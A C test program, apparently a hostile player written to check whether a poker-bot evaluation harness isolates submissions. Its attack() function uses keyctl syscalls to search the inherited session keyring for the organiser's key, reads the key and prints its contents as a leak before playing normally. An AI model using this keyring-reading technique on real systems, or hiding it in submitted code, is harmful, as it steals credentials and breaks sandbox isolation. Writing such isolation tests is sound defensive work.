/* session_keyring: searches the session keyring it was started with for
 * the organiser's key "poker-organiser" (the test puts one, holding a
 * random marker, in the evaluator's session keyring, as a service or a
 * login with pam_keyinit has one with tickets and credentials) and prints
 * "LEAK: organiser's key: <payload>". Then plays round robin. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "poker.h"

#define KEY_SPEC_SESSION_KEYRING -3
#define KEYCTL_SEARCH 10
#define KEYCTL_READ 11

static void attack(void)
{
    char payload[512];
    long n, key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "poker-organiser", 0);
    if (key < 0) { fprintf(stderr, "search: %s\n", strerror(errno)); return; }
    n = syscall(SYS_keyctl, KEYCTL_READ, key, payload, sizeof payload - 1);
    if (n < 0) { fprintf(stderr, "read: %s\n", strerror(errno)); return; }
    payload[n < (long)sizeof payload - 1 ? n : (long)sizeof payload - 1] = 0;
    fprintf(stderr, "LEAK: organiser's key: %s\n", payload);
}

int main(void)
{
    int i, v, c;
    attack();
    p_startgame();
    for (i = 1; i <= 20; i++) { p_look(&v, &c); p_place((i - 1) % 4 + 1); }
    return 0;
}
